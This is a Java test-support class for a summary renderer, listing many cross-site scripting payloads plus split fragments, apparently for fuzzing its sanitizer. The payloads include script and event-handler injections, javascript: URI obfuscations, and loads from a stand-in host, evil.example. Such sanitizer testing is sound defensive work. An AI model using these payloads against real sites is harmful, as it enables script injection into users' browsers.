package org.conferencedigest.summary.render;

import java.util.ArrayList;
import java.util.List;

/** Texts that would run a script, or take over a page, if they were taken as they are. */
final class Attacks {

  private static final List<String> WHOLE =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<script/src=data:,alert(1)>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<script\u0000>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "<img src=\"https://a.example/x.png\" onload=\"alert(1)\">",
          "<img/src=`x`onerror=alert(1)>",
          "<img src=x:x onerror\n=alert(1)>",
          "<img srcset=\"javascript:alert(1)\">",
          "<img src='javascript:alert(1)'>",
          "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<svg><style><img src=x onerror=alert(1)></style></svg>",
          "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<math href=\"javascript:alert(1)\">x</math>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<p title=\"</p><script>alert(1)</script>\">x</p>",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
          "<a href=\"java\tscript:alert(1)\">x</a>",
          "<a href=\"java\nscript:alert(1)\">x</a>",
          "<a href=\"&#106;&#97;vascript&colon;alert(1)\">x</a>",
          "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
          "<a href=\" \u0001javascript:alert(1)\">x</a>",
          "<a href=\"vbscript:msgbox(1)\">x</a>",
          "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
          "<a href=\"file:///etc/passwd\">x</a>",
          "<a href=\"blob:https://a.example/1\">x</a>",
          "<a href=x onclick=alert(1)>x</a>",
          "<a href=\"https://a.example\" target=\"_blank\" style=\"position:fixed;inset:0\">x</a>",
          "[x](javascript:alert(1))",
          "[x](JAVASCRIPT:alert(1))",
          "[x](<java\tscript:alert(1)>)",
          "[x](&#106;avascript:alert(1))",
          "[x](javascript&colon;alert(1))",
          "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
          "[x](vbscript:x)",
          "[x]( javascript:alert(1))",
          "[x](https://a.example\"onmouseover=\"alert(1))",
          "[x](https://a.example 'a\" onmouseover=\"alert(1)')",
          "![x](javascript:alert(1))",
          "![x](https://a.example/\"onerror=\"alert(1))",
          "![\"onerror=\"alert(1)](https://a.example/x.png)",
          "[x][y]\n\n[y]: javascript:alert(1)",
          "[x][y]\n\n[y]: https://a.example \"\\\" onclick=alert(1)\"",
          "<javascript:alert(1)>",
          "<data:text/html,x>",
          "<iframe src=\"https://evil.example\"></iframe>",
          "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
          "<object data=\"javascript:alert(1)\"></object>",
          "<embed src=\"javascript:alert(1)\">",
          "<applet code=x></applet>",
          "<base href=\"https://evil.example/\">",
          "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
          "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
          "<style>@import 'https://evil.example/x.css';</style>",
          "<style>*{background:url(javascript:alert(1))}</style>",
          "<div style=\"background:url(javascript:alert(1))\">x</div>",
          "<div style=\"width:expression(alert(1))\">x</div>",
          "<form action=\"javascript:alert(1)\"><button>x</button></form>",
          "<input autofocus onfocus=alert(1)>",
          "<button formaction=\"javascript:alert(1)\">x</button>",
          "<select onchange=alert(1)><option>x</option></select>",
          "<textarea></textarea><script>alert(1)</script>",
          "<title></title><img src=x onerror=alert(1)>",
          "<video><source onerror=alert(1)></video>",
          "<video poster=\"javascript:alert(1)\"></video>",
          "<audio src=x onerror=alert(1)></audio>",
          "<details ontoggle=alert(1) open>x</details>",
          "<body onload=alert(1)>",
          "</main></body><script>alert(1)</script>",
          "<marquee onstart=alert(1)>x</marquee>",
          "<template><script>alert(1)</script></template>",
          "<xmp><script>alert(1)</script></xmp>",
          "<plaintext><script>alert(1)</script>",
          "<!--><script>alert(1)</script>-->",
          "<!-- --!><script>alert(1)</script>",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
          "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
          "<isindex action=javascript:alert(1) type=image>",
          "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
          "<x onclick=alert(1)>x</x>",
          "<p/onclick=alert(1)>x</p>",
          "```js\" onload=\"alert(1)\nx\n```",
          "```<script>\nx\n```",
          "`<script>alert(1)</script>`",
          "[^1]\n\n[^1]: <script>alert(1)</script>",
          "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
          "# <script>alert(1)</script>",
          "# x\" onclick=\"alert(1)",
          "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
          "https://a.example/\"onmouseover=alert(1)",
          "www.a.example/<script>alert(1)</script>",
          "{{< figure src=\"javascript:alert(1)\" alt=\"x\" >}}",
          "{{< figure src=\"https://a.example/x.png\" alt=\"](javascript:alert(1))\" >}}",
          "{{< youtube \"x\"onload=alert(1) >}}",
          "{{</* <script>alert(1)</script> */>}}",
          "[x](note:javascript:alert(1))",
          "[x](note:y#\"onclick=alert(1))",
          "<<script>alert(1)//<</script>",
          "<a href=\"https://a.example\"><a href=\"javascript:alert(1)\">x</a></a>",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;script&#62;alert(1)&#60;/script&#62;",
          "<a\u00A0href=\"javascript:alert(1)\">x</a>",
          "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
          "<div data-mark=\"0\" id=\"note-x\" aria-labelledby=\"x\">x</div>");

  private Attacks() {}

  static List<String> all() {
    return WHOLE;
  }

  /** The attacks, halves of them, and what may stand between. */
  static List<String> pieces() {
    List<String> pieces = new ArrayList<>(WHOLE);
    for (String attack : WHOLE) {
      pieces.add(attack.substring(0, attack.length() / 2));
      pieces.add(attack.substring(attack.length() / 2));
    }
    pieces.addAll(
        List.of(
            "\n", "\n\n", " ", "> ", "- ", "*", "**", "_", "`", "[", "](", ")", "<", ">", "\"", "'",
            "=", "&", "<!--", "-->", "<b>", "</b>", "<pre>", "</pre>", "|", "a", "é", "שלום", "😀",
            "\u0000", "\uD800"));
    return pieces;
  }
}
